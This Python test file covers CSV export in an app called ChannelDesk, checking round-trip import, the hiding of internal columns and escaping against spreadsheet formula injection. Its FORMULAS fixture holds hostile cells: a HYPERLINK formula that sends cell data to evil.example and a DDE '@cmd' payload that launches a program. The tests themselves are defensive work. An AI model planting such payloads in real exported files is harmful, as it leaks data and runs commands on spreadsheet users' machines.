"""CSV export: the filtered view, importable again; internal columns out in presentation."""

from __future__ import annotations

import csv
from datetime import date

from hypothesis import given
from hypothesis import strategies as st

from channeldesk.services.csv_cells import read_cell, safe_cell
from channeldesk.services.prospect_csv_export import export_prospects
from channeldesk.services.prospect_csv_import import (
    KnownCompanies,
    apply_import,
    build_preview,
    read_file,
)
from channeldesk.store import open_store
from channeldesk.store.models import Prospect
from channeldesk.store.prospect_queries import ProspectFilter

FULL = {"company": "Łódź Systemy, \"Quoted\"", "website": "https://lodz.example",
        "country": "Poland", "region": "emea", "vertical": "Healthcare", "employees": 120,
        "annual_revenue_minor": 123_456_78, "currency": "EUR", "partner_type": "msp",
        "source": "event", "stage": "lost", "lost_reason": "Chose a competitor",
        "owner": "Sam", "next_step": "Call back\nin spring", "next_step_on": date(2026, 4, 1),
        "contact_name": "Ana", "contact_email": "ana@lodz.example",
        "contact_phone": "+48 42 555 0101", "competencies": "Azure, AWS",
        "competitors": "Brightline", "internal_notes": "Tough on margins"}


def test_export_round_trips_through_the_importer(store, tmp_path):
    store.insert(Prospect, FULL)
    store.insert(Prospect, {"company": "Bare Co"})
    target = tmp_path / "out.csv"
    assert export_prospects(store, target) == 2
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    other = open_store(tmp_path / "other.sqlite3")
    try:
        preview = build_preview(read_file(target), known=KnownCompanies.load(other))
        assert preview.notes == [] and not preview.invalid, preview.issues()
        apply_import(other, preview)
        copies = {p.company: p for p in Prospect.select()}
        copy = copies[FULL["company"]]
        for name, value in FULL.items():
            assert getattr(copy, name) == value, name
        assert copies["Bare Co"].employees is None
    finally:
        other.close()


def test_presentation_leaves_internal_columns_out_and_filters_apply(store, tmp_path):
    store.insert(Prospect, FULL)
    store.insert(Prospect, {"company": "Other", "stage": "qualified"})
    target = tmp_path / "shown.csv"
    count = export_prospects(store, target, ProspectFilter(stages=frozenset({"lost"})),
                             include_internal=False)
    assert count == 1
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert "Internal notes" not in rows[0] and "Lost reason" not in rows[0]
    assert "Tough on margins" not in target.read_text(encoding="utf-8-sig")
    assert len(rows) == 2 and rows[1][0] == FULL["company"]


# -- issue 11, finding 3: no formula runs in a spreadsheet, and the values come back ------

FORMULAS = {"company": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            "owner": "+SUM(A1:A9)", "next_step": "-2+3", "contact_name": "@cmd|' /C calc'!A0",
            "competencies": "\tAzure", "competitors": "\r=1+1",
            "internal_notes": "'=already quoted by hand", "vertical": "=1+1"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_triggers_are_neutralised_and_read_back_unchanged(store, tmp_path):
    store.insert(Prospect, {**FORMULAS, "employees": 250})
    target = tmp_path / "out.csv"
    export_prospects(store, target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row, strict=True))
    for cell in row:
        assert not cell.startswith(TRIGGERS), cell  # a spreadsheet runs none of them
    assert cells["Company"] == "'" + FORMULAS["company"]
    assert cells["Internal notes"] == "''=already quoted by hand"
    assert cells["Employees"] == "250"  # a plain number stays a number
    other = open_store(tmp_path / "other.sqlite3")
    try:
        preview = build_preview(read_file(target), known=KnownCompanies.load(other))
        assert not preview.invalid, preview.issues()
        apply_import(other, preview)
        copy = Prospect.get()
        for name, value in FORMULAS.items():
            assert getattr(copy, name) == value, name
    finally:
        other.close()


def test_numbers_in_numeric_columns_are_not_quoted_but_text_is():
    assert safe_cell("-5", numeric=True) == "-5"
    assert safe_cell("1250000.00", numeric=True) == "1250000.00"
    assert safe_cell("-5") == "'-5"
    assert safe_cell("-1+2", numeric=True) == "'-1+2"
    for text in ("-5", "=x", "'=x", "''@y", "plain", "'plain", ""):
        assert read_cell(safe_cell(text)) == text


def test_the_export_carries_each_record_id(store, tmp_path):
    row_id = store.insert(Prospect, {"company": "Acme"})
    target = tmp_path / "out.csv"
    export_prospects(store, target)
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["ChannelDesk ID"] == row_id


@given(st.text())
def test_any_text_is_written_without_a_trigger_and_read_back_whole(text):
    written = safe_cell(text)
    assert not written.startswith(TRIGGERS)
    assert read_cell(written) == text
